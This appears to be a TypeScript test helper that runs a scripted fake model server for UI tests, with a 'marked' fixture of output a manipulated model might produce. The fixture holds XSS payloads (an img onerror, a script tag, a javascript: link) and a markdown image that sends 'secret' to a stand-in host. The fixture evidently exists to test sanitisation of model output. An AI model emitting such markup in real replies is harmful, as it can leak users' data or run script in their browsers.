import { obedientScript } from './obedient-script.ts';
import { type ScriptedModel, startScriptedModel } from './scripted-model.ts';

/** In short sentences: a model that leads is heard sentence by sentence. */
const slowly = Array.from({ length: 200 }, () => 'Slow slow.').join(' ');

/** A model that answers as the last message asks it to: SLOW for minutes, FAIL not at all, MARKED with all kinds of markup. */
export function startScreenModel(): Promise<ScriptedModel> {
  return startScriptedModel((request) => {
    const asked = request.messages.at(-1)?.text ?? '';
    if (asked.includes('SLOW')) return { text: slowly, pace: 250 };
    if (asked.includes('FAIL')) return { status: 400, body: '{"error":{"message":"no"}}' };
    if (asked.includes('MARKED')) return { text: marked };
    return obedientScript(request);
  });
}

/** What a model that was talked into it might write. */
export const marked = [
  'A **strong** word, an *emphasis* and `code`.',
  '- one\n- two',
  '![a cat](https://elsewhere.example/pixel.png?said=secret)',
  '<img src="https://elsewhere.example/x.png" onerror="alert(1)"><script>alert(2)</script>',
  '[safe](https://elsewhere.example/read) and [not](javascript:alert(3))',
].join('\n\n');
